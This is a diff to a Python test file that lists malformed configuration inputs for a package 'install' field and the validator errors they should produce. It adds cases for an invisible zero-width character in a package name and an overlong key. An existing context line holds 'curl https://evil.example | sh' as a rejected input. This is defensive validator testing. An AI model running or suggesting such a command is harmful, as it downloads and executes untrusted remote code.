@@ -307,6 +307,14 @@ WRONG = {
         "install: pip install rihgt gunicorn",
         ["15:5: frameworks.right.install: must name right, too"],
     ),
+    "install of a name with a sign that nobody sees": (
+        "install: pip install right",
+        "install: pip install \u200cright",
+        [
+            "15:14: frameworks.right.install: may only name packages, such as quart or"
+            ' "quart[dotenv]", not \\u200cright'
+        ],
+    ),
     "install that runs more": (
         "install: pip install right",
         "install: curl https://evil.example | sh",
@@ -538,6 +546,11 @@ WRONG = {
         "          left:\n            level",
         "          left\n            level",
         ["28:11: write left: with a colon"],
+    ),
+    "a word as long as a book without a colon": (
+        "          left:\n",
+        f"          {'x' * 30_000}\n",
+        [f"28:11: write {'x' * 79}…: with a colon"],
     ),
     "a key indented less": (
         "        title: Routing",
